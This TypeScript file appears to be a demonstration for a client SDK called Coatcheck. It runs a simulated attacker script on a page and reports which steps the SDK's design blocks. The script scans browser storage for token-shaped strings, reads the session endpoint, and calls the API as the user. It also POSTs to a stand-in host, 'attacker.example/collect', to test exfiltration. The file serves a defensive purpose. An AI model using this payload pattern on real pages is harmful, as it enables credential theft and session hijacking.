import type { Coatcheck } from '@coatcheck/client'

/** One thing the payload tried, and whether it got there. */
export interface Finding {
  what: string
  reached: boolean
  detail: string
}

// A JWT or an opaque token of the usual shapes: what a token thief greps for.
const TOKEN_SHAPE = /eyJ[\w-]{8,}\.[\w-]{8,}|"(access|refresh|id)_?token"/i

/**
 * What an attacker's script does first on a page: look for tokens everywhere script can
 * read, try to send them home, and use the session while it lasts.
 */
export async function runPayload(coatcheck: Coatcheck<unknown>): Promise<Finding[]> {
  const storage = [JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage })]
  const databases = await indexedDB.databases()
  const session = await (await coatcheck.fetch('/auth/session')).text()
  const api = await coatcheck.fetch('/api/demo/whoami')
  const exfiltrated = await fetch('https://attacker.example/collect', { method: 'POST' })
    .then(() => true)
    .catch(() => false)
  return [
    {
      what: 'the session cookie',
      reached: /coatcheck/i.test(document.cookie),
      detail: `document.cookie is "${document.cookie}": the cookie is HttpOnly and belongs to Coatcheck's origin.`,
    },
    {
      what: 'a token in localStorage, sessionStorage or IndexedDB',
      reached: storage.some((text) => TOKEN_SHAPE.test(text)) || databases.length > 0,
      detail: `${databases.length} IndexedDB databases; the SDK writes no storage.`,
    },
    {
      what: 'a token in the answers script can read',
      reached: TOKEN_SHAPE.test(session),
      detail: '/auth/session carries claims and permission rules, never a token.',
    },
    {
      what: 'sending data to another origin',
      reached: exfiltrated,
      detail: 'connect-src allows this origin and Coatcheck only.',
    },
    {
      what: 'calling the API as you, through the session',
      reached: api.ok,
      detail: `GET /api/demo/whoami answered ${api.status}: possible while this page is open.`,
    },
  ]
}
